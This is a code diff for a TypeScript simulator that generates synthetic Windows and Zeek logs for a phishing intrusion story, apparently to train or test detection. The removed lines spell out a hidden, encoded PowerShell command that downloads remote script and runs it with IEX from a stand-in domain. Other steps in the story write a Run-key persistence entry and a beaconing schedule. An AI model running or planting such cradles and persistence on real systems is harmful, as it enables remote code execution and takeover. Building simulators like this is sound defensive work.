@@ -1,42 +1,14 @@
 import { drawChance, drawInteger, drawLognormal, pick, shuffle } from "../../stats/draw.ts";
 import { startProgram } from "../activities/start-program.ts";
-import { lookUp } from "../activities/talk.ts";
-import { encodeCommand } from "../base64.ts";
 import { usersOf } from "../find-in-organisation.ts";
 import { documentWords } from "../name-pools.ts";
-import type { Service, User } from "../organisation-types.ts";
 import { outlook, powershell, word } from "../programs-plan.ts";
 import { mailReported } from "../records/mail.ts";
-import {
-  fileCreated,
-  type Program,
-  processConnected,
-  processQueried,
-  type RunningProcess,
-  registryValueSet,
-} from "../records/sysmon.ts";
-import { newConnection, zeekConn, zeekSsl } from "../records/zeek.ts";
-import type { Scene } from "../traffic-types.ts";
+import { fileCreated, type Program, registryValueSet } from "../records/sysmon.ts";
+import { callHome, hiddenCommand, implantOf, machineOf, type PhishingCast } from "./phishing-implant.ts";
 import { defineStory, type Step, strangerAddress } from "./story.ts";
 
-interface Cast {
-  readonly victim: User;
-  readonly alsoAsked: readonly User[];
-  readonly sender: string;
-  readonly senderAddress: string;
-  readonly documentName: string;
-  /** Where the implant calls home. */
-  readonly home: Service;
-  readonly periodMs: number;
-  readonly jitter: number;
-}
-
-const hidden = (cast: Cast) => {
-  const script = `$w=New-Object Net.WebClient;$w.Headers.Add('Accept','text/plain');IEX $w.DownloadString('https://${cast.home.domain}/s/${cast.periodMs}')`;
-  return `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${encodeCommand(script)}`;
-};
-
-const lure: Step<Cast> = {
+const lure: Step<PhishingCast> = {
   id: "lure",
   technique: "T1566.001",
   tactic: "initial-access",
@@ -64,7 +36,7 @@ const lure: Step<Cast> = {
   },
 };
 
-const open: Step<Cast> = {
+const open: Step<PhishingCast> = {
   id: "open",
   technique: "T1204.002",
   tactic: "execution",
@@ -83,7 +55,7 @@ const open: Step<Cast> = {
   },
 };
 
-const script: Step<Cast> = {
+const script: Step<PhishingCast> = {
   id: "script",
   technique: "T1059.001",
   tactic: "execution",
@@ -92,7 +64,7 @@ const script: Step<Cast> = {
   emits(scene, cast) {
     const process = startProgram(scene, 0, machineOf(scene, cast), {
       program: powershell,
-      commandLine: hidden(cast),
+      commandLine: hiddenCommand(cast),
       parentImage: word.image,
       parentCommandLine: `"${word.image}" /n "${cast.documentName}.docm"`,
     });
@@ -101,7 +73,7 @@ const script: Step<Cast> = {
   },
 };
 
-const persist: Step<Cast> = {
+const persist: Step<PhishingCast> = {
   id: "persist",
   technique: "T1547.001",
   tactic: "persistence",
@@ -109,12 +81,12 @@ const persist: Step<Cast> = {
   jitter: 0.5,
   emits(scene, cast) {
     const key = `HKU\\${cast.victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneStart`;
-    scene.emit(0, "windows", registryValueSet(implantOf(scene, cast), key, hidden(cast)));
+    scene.emit(0, "windows", registryValueSet(implantOf(scene, cast), key, hiddenCommand(cast)));
     return 500;
   },
 };
 
-const beacon: Step<Cast> = {
+const beacon: Step<PhishingCast> = {
   id: "beacon",
   technique: "T1071.001",
   tactic: "command-and-control",
@@ -135,7 +107,7 @@ const beacon: Step<Cast> = {
   },
 };
 
-const explore: Step<Cast> = {
+const explore: Step<PhishingCast> = {
   id: "explore",
   technique: "T1087.002",
   tactic: "discovery",
@@ -160,7 +132,7 @@ const explore: Step<Cast> = {
         program,
         commandLine,
         parentImage: powershell.image,
-        parentCommandLine: hidden(cast),
+        parentCommandLine: hiddenCommand(cast),
       });
       delayMs += drawLognormal(scene.random, 14_000, 0.5);
     }
@@ -169,7 +141,7 @@ const explore: Step<Cast> = {
 };
 
 /** A mail brings a document, its macro starts a hidden script, and the script calls home at regular times. */
-export const phishing = defineStory<Cast>({
+export const phishing = defineStory<PhishingCast>({
   name: "phishing",
   steps: [lure, open, script, persist, beacon, explore],
   cast(scene) {
@@ -179,6 +151,7 @@ export const phishing = defineStory<Cast>({
     const word = () => pick(random, ["parcel", "ledger", "notice", "claims", "portal", "secure", "remit", "doc"]);
     const ending = () => `${scene.identifiers.hex(4)}.example`;
     return {
+      implant: { processId: scene.identifiers.processId(), guid: scene.identifiers.uuid() },
       victim,
       alsoAsked: others.slice(0, drawInteger(random, 1, 4)),
       sender: `accounts@${word()}-${ending()}`,
@@ -190,46 +163,3 @@ export const phishing = defineStory<Cast>({
     };
   },
 });
-
-function machineOf({ organisation }: Scene, { victim }: Cast) {
-  return { computer: victim.workstation.name, account: `${organisation.netbios}\\${victim.name}` };
-}
-
-function implantOf(scene: Scene, cast: Cast): RunningProcess {
-  const { computer, account } = machineOf(scene, cast);
-  const { identifiers, organisation } = scene;
-  return {
-    computer: `${computer}.${organisation.domain}`,
-    account,
-    image: powershell.image,
-    processId: identifiers.processId(),
-    guid: identifiers.uuid(),
-  };
-}
-
-/** One call: small, nearly always of the same size. The machine's own log shows it only where a process is given. */
-function callHome(scene: Scene, delayMs: number, cast: Cast, process: RunningProcess | null): void {
-  const { random, identifiers } = scene;
-  const from = cast.victim.workstation.address;
-  const to = cast.home.addresses[0] ?? "192.0.2.1";
-  const connection = newConnection(identifiers, { from, to, toPort: 443 });
-  if (process !== null) {
-    lookUp(scene, delayMs, from, cast.home.domain, cast.home.addresses);
-    scene.emit(delayMs + 15, "windows", processQueried(process, cast.home.domain, cast.home.addresses));
-    scene.emit(
-      delayMs + 60,
-      "windows",
-      processConnected(process, { from, fromPort: connection.fromPort, to, toPort: 443, name: cast.home.domain }),
-    );
-  }
-  const summary = {
-    protocol: "tcp",
-    service: "ssl",
-    state: "SF",
-    durationMs: drawLognormal(random, 420, 0.15),
-    bytesOut: 614 + drawInteger(random, 0, 24),
-    bytesIn: 1_180 + drawInteger(random, 0, 40),
-  } as const;
-  scene.emit(delayMs + 40, "zeek.conn", zeekConn(connection, summary));
-  scene.emit(delayMs + 70, "zeek.ssl", zeekSsl(connection, cast.home.domain));
-}
